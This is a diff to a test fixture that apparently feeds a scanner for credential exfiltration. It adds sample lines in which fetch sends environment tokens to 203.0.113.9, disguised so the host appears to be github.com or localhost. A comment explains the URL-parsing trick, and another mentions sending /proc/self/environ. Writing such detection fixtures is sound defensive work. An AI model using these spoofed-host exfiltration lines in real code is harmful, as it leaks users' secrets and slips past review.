@@ -15,6 +15,10 @@ const HOST_WITH_USER_PART: FindingRow[] = closed([
   ['test/a.test.js', "await fetch('https://github.com:443@203.0.113.9/c?t=' + process.env.MY_TOKEN)"],
   ['test/a.test.js', "await fetch('https://127.0.0.1:8080@203.0.113.9/c?t=' + process.env.MY_TOKEN)"],
   ['test/a.test.js', "await fetch('https://localhost:x@203.0.113.9/c?t=' + process.env.NPM_TOKEN)"],
+  // A backslash or a query before the `@` ends the host for WHATWG's URL (Node's fetch): the host is 203.0.113.9.
+  ['test/a.test.js', "await fetch('https://203.0.113.9\\\\@github.com/c?t=' + process.env.MY_TOKEN)"],
+  ['test/a.test.js', "await fetch('https://203.0.113.9?@github.com/c?t=' + process.env.MY_TOKEN)"],
+  ['test/a.test.js', "await fetch('https://203.0.113.9\\\\@localhost/c?t=' + process.env.MY_TOKEN)"],
 ]);
 
 /** R65-2 (High): the whole environment read from /proc/self/environ and sent. */
